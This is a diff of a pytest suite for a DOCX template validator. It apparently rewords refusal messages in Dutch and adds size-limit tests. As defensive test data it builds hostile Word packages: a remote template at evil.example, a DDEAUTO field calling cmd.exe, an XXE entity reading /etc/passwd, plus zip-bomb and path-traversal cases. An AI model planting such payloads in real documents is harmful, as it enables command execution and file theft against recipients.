@@ -67,7 +67,9 @@ def _with_relationship(content: bytes, rels: str, relationship: str) -> bytes:
     """Adds a relationship to a .rels part, creating the part when the package has none."""
     names = zipfile.ZipFile(io.BytesIO(content)).namelist()
     if rels in names:
-        xml = _part(content, rels).replace(b"</Relationships>", relationship.encode() + b"</Relationships>")
+        xml = _part(content, rels).replace(
+            b"</Relationships>", relationship.encode() + b"</Relationships>"
+        )
         return _rezip(content, replace={rels: xml})
     xml = (
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
@@ -177,7 +179,7 @@ def test_s3_external_attached_template_is_refused():
         'Target="http://evil.example/sjabloon.dotm" TargetMode="External"/>',
     )
     message = _refused(content)
-    assert "attachedTemplate" in message and "http://evil.example/sjabloon.dotm" in message
+    assert "documentsjabloon buiten het bestand ('http://evil.example/sjabloon.dotm')" in message
 
 
 def test_s3_linked_remote_image_is_refused():
@@ -216,13 +218,13 @@ def test_s3_hyperlink_to_a_file_or_network_share_is_refused(target):
 def test_s3_ddeauto_field_split_over_runs_is_refused():
     body = _part(_docx("PLACEHOLDER"), "word/document.xml")
     field = (
-        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
-        '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
-        '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe'
-        "</w:instrText></w:r>"
-        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
-        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
-    ).encode()
+        b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        b'<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
+        b'<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe'
+        b"</w:instrText></w:r>"
+        b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
+        b'<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    )
     body = body.replace(b"<w:r><w:t>PLACEHOLDER</w:t></w:r>", field)
     assert b"DDE" in body
     content = _rezip(_docx("x"), replace={"word/document.xml": body})
@@ -303,8 +305,8 @@ def test_s4_twenty_thousand_entries_are_refused():
 
 def test_s4_file_over_five_megabytes_is_refused():
     content = _rezip(_docx("x"), add={"word/media/image1.png": b"\x89PNG"})
-    padded = content + bytes(5 * 1024 * 1024)
-    assert "te groot" in _refused(padded) and "ten hoogste 5 MB" in _refused(padded)
+    message = _refused(content + bytes(5 * 1024 * 1024))
+    assert message.startswith("Het bestand is te groot: 5,0 MB; ten hoogste 5 MB.")
 
 
 def test_s4_part_with_a_bomb_ratio_is_refused_even_under_the_total_limit():
@@ -376,7 +378,9 @@ def test_s4_path_traversal_and_absolute_names_are_refused(name):
 def test_s4_duplicate_part_names_are_refused():
     with warnings.catch_warnings():
         warnings.simplefilter("ignore", UserWarning)  # zipfile warns about the duplicate
-        content = _rezip(_docx("x"), add={"word/document.xml": _part(_docx("y"), "word/document.xml")})
+        content = _rezip(
+            _docx("x"), add={"word/document.xml": _part(_docx("y"), "word/document.xml")}
+        )
     assert "meer dan eens" in _refused(content)
 
 
@@ -401,10 +405,14 @@ def test_s5_xxe_is_refused_and_file_contents_never_appear(tmp_path):
 
 
 def test_s5_xxe_on_etc_passwd_never_shows_its_contents():
-    body = _part(_docx("&e;"), "word/document.xml").replace(
-        b"<w:document",
-        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document',
-        1,
+    body = (
+        _part(_docx("&e;"), "word/document.xml")
+        .replace(
+            b"<w:document",
+            b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document',
+            1,
+        )
+        .replace(b"&amp;e;", b"&e;")
     )
     message = _refused(_rezip(_docx("x"), replace={"word/document.xml": body}))
     assert "DOCTYPE" in message
@@ -454,9 +462,9 @@ def test_s7_misspelt_attribute_of_a_loop_item_is_refused_naming_it():
     with pytest.raises(TemplateRefused) as refused:
         check_template(content, "agendaformulier")
     assert refused.value.problems == [
-        "Onbekend veld in het sjabloon: 'tekstt' van elk item van conceptbesluit (in een "
-        "{% for %}-lus) ({{ conceptbesluit[].tekstt }}). Bedoelt u 'tekst'? Bekende velden van "
-        "elk item van conceptbesluit (in een {% for %}-lus) zijn: nummer, tekst."
+        "Onbekend veld in het sjabloon: 'tekstt' bij elk item van conceptbesluit "
+        "({{ conceptbesluit[].tekstt }}, in een {% for %}-lus over conceptbesluit). "
+        "Bedoelt u 'tekst'? Een item van conceptbesluit heeft alleen: nummer, tekst."
     ]
 
 
@@ -513,6 +521,38 @@ def test_s7_dotted_path_on_a_text_field_says_it_is_a_text():
         "Onbekend veld in het sjabloon: {{ gemeente.naam }}; gemeente is een tekst en heeft geen "
         "onderdeel 'naam'."
     )
+
+
+def test_s2_deeply_nested_placeholder_is_refused_not_an_internal_error():
+    content = _docx("{{ " + "(" * 5000 + "1" + ")" * 5000 + " }}")
+    assert "te diep genest" in _refused(content, lambda c: check_template(c, "volmacht"))
+
+
+@pytest.mark.parametrize(
+    ("paragraphs", "expected"),
+    [
+        (["{{ plaats }}"] * 2001, "2.001 velden en blokken; ten hoogste 2.000"),
+        (["{{ [" + "1," * 30_000 + "1] }}"], "60.009 tekens lang; ten hoogste 50.000"),
+        (["{{ plaats " + "x" * 60_000], "tekens lang; ten hoogste 50.000"),
+    ],
+)
+def test_s2_too_much_template_code_is_refused_before_it_is_compiled(
+    paragraphs, expected, monkeypatch
+):
+    def no_prepare(content: bytes) -> None:
+        raise AssertionError("compiled before the code was measured")
+
+    content = _docx(*paragraphs)
+    monkeypatch.setattr(template_checks.docx_render, "prepare", no_prepare)
+    started = time.perf_counter()
+    message = _refused(content, lambda c: check_template(c, "volmacht"))
+    assert time.perf_counter() - started < 1
+    assert expected in message
+
+
+def test_s2_placeholder_split_over_runs_is_measured_without_its_markup():
+    content = _docx(build=_split_runs("{{ ge", "meente }}"))
+    assert template_checks._template_code(_part(content, "word/document.xml")) == (1, 14)
 
 
 def test_jinja_syntax_error_is_refused_with_the_renderers_message():
